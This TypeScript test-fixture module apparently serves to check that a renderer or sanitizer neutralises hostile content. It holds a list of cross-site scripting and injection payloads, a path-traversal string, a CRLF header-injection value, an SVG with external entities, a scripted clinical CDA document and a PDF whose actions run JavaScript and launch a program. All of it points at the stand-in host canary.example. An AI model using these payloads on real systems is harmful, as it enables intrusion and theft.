/**
 * Content that tries to run a script, send a request or fool a reader. A script that runs calls `canary`, and a
 * request goes to canary.example.
 */

const host = "canary.example"

export const payloads: ReadonlyArray<string> = [
  "<script>canary()</script>",
  "</script><script>canary()</script>",
  "</title></style></textarea></noscript><script>canary()</script>",
  "\"><script src=\"https://canary.example/a.js\"></script>",
  "<img src=x onerror=canary()>",
  "<img src=https://canary.example/a.png>",
  "'\"><svg/onload=canary()>",
  "<svg><animate onbegin=canary() attributeName=x dur=1s>",
  "<svg><style><img src=x onerror=canary()></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=canary()&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=canary()>\">",
  "<template><script>canary()</script></template>",
  "<iframe srcdoc=\"<script>parent.canary()</script>\"></iframe>",
  "<iframe src=https://canary.example/></iframe>",
  "<object data=https://canary.example/></object><embed src=https://canary.example/>",
  "<a href=javascript:canary()>open</a>",
  "<form action=https://canary.example/ method=post><button>go</button></form>",
  "<meta http-equiv=refresh content=\"0;url=https://canary.example/\">",
  "<base href=https://canary.example/>",
  "<link rel=stylesheet href=https://canary.example/a.css><link rel=prefetch href=https://canary.example/b>",
  "<style>@import url(https://canary.example/a.css);*{background:url(https://canary.example/b)}</style>",
  "<p style=\"background:url(https://canary.example/c);position:fixed;inset:0\">over all",
  "<body onload=canary()><input autofocus onfocus=canary()><details open ontoggle=canary()>",
  "<video><source onerror=canary()></video><audio src=https://canary.example/a.ogg autoplay></audio>",
  "javascript:canary()",
  "java\tscript:canary()",
  "data:text/html,<script>canary()</script>",
  "https://canary.example/%s",
  "//canary.example/a",
  "&lt;script&gt;canary()&lt;/script&gt;",
  "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
  "{{constructor.constructor('canary()')()}}",
  "${canary()}",
  "#{canary()}",
  "`-canary()-'",
  "__proto__",
  "constructor",
  "toString",
  "expression(canary());}*{color:red",
  "\u202egnp.exe\u202c evil \u2066mixed\u2069",
  "\ufeff\u200b\u200d\ufffe\uffff z\u0301\u0301\u0301\u0301\u0301\u0301",
  "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
  "]]><script>canary()</script><![CDATA[",
  "<?xml-stylesheet href=\"https://canary.example/a.xsl\"?>",
  "=HYPERLINK(\"https://canary.example/\")",
  "%3Cscript%3Ecanary()%3C/script%3E",
  "../../../../etc/passwd",
  "\r\nset-cookie: a=b\r\n\r\n<script>canary()</script>",
  "[x](javascript:canary())",
  `${host}${"A".repeat(400)}<script>canary()</script>`
]

/** One page with all payloads. */
export const hostileHtml = `<!doctype html><html lang="en" onclick="canary()"><head><title>Letter</title></head><body>${
  payloads.join("\n")
}<p>The end of the letter.</p></body></html>`

/** Links, forms, buttons and image maps that a reader could click, and a table. */
export const pressableHtml = `<p>Dear reader,</p>
<a id="out" href="https://canary.example/out">Open the portal</a>
<a href="https://canary.example/top" target="_top">Top</a> <a href="https://canary.example/new" target="_blank">New</a>
<a href="javascript:top.canary()">Script</a> <a href="data:text/html,<script>top.canary()</script>">Data</a>
<a href="/config.json">Own origin</a> <a href="mailto:a@canary.example">Mail</a> <a href="#there">There</a>
<a download href="https://canary.example/file">File</a> <a ping="https://canary.example/ping" href="https://canary.example/p">Ping</a>
<form action="https://canary.example/form" method="post"><input name="a" value="1"><button>Send</button><input type="submit" value="Submit"></form>
<button onclick="top.canary()">Press</button> <img usemap="#m" src="https://canary.example/map.png" alt="Map">
<map name="m"><area shape="default" href="https://canary.example/area" alt="Area"></map>
<svg><a href="https://canary.example/svg"><text y="20">Drawn</text></a></svg> <iframe src="https://canary.example/frame"></iframe>
<table><tr><th>Name</th><th>Value</th></tr><tr><td>A1c</td><td rowspan="2">7.1 %</td></tr></table><p id="there">Yours</p>`

/** A drawing with scripts, as an XML file. */
export const hostileSvg = `<?xml version="1.0"?><?xml-stylesheet href="https://canary.example/a.xsl"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x SYSTEM "https://canary.example/x">]>
<svg xmlns="http://www.w3.org/2000/svg" onload="canary()"><script>canary()</script><text>&b;&x;</text>
<image href="https://canary.example/a.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="canary()"/></foreignObject></svg>`

/** A clinical document whose narrative has scripts. */
export const hostileCda = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://canary.example/cda.xsl"?>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>Summary ${"<![CDATA[<script>canary()</script>]]>"}</title><component><section><title>Allergies</title>
<text><table><tr><th>Substance</th></tr><tr><td onclick="canary()">Penicillin</td></tr></table><list><item>Rash</item></list>
<linkHtml href="javascript:canary()">more</linkHtml><script>canary()</script><renderMultiMedia referencedObject="x"/></text></section></component></ClinicalDocument>`

/**
 * A PDF whose actions run scripts, open web addresses, start a program and send a form (ISO 32000-1, 12.6.4). They are
 * triggered when the PDF is opened, closed or clicked. A file is attached to it.
 */
export const hostilePdf = (() => {
  const action = (rest: string) => `<</Type/Action/S/${rest}>>`
  const uri = "URI/URI(https://canary.example/uri)"
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action("JavaScript/JS(app.alert\\(1\\);canary\\(\\))")}/AA<</WC ${
      action(uri)
    }>>` +
    `/Names<</JavaScript<</Names[(a) ${
      action("JavaScript/JS(canary\\(\\))")
    }]>>/EmbeddedFiles<</Names[(evil.html) 6 0 R]>>>>` +
    `/AcroForm<</Fields[8 0 R]/XFA(<xdp><script>canary\\(\\)</script></xdp>)>>>>`,
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>/AA<</O ${
      action(uri)
    }>>/Annots[` +
    [uri, "JavaScript/JS(canary\\(\\))", "Launch/F(calc.exe)", "SubmitForm/F(https://canary.example/submit)",
      "GoToR/F(https://canary.example/r.pdf)"]
      .map((one) => `<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A ${action(one)}>>`).join("") +
    "<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>><</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>> 8 0 R]>>",
    "<</Length 47>>stream\nBT /F 24 Tf 50 700 Td (<script>canary) Tj ET    \nendstream",
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    "<</Type/Filespec/F(../evil<script>.html)/UF(../evil<script>.html)/EF<</F 7 0 R>>>>",
    "<</Type/EmbeddedFile/Length 25>>stream\n<script>canary()</script>\nendstream",
    `<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[20 20 90 90]/A ${action("JavaScript/JS(canary\\(\\))")}>>`
  ]
  const body = objects.map((object, index) => `${index + 1} 0 obj${object}\nendobj\n`).join("")
  return `%PDF-1.7\n${body}trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF\n`
})()
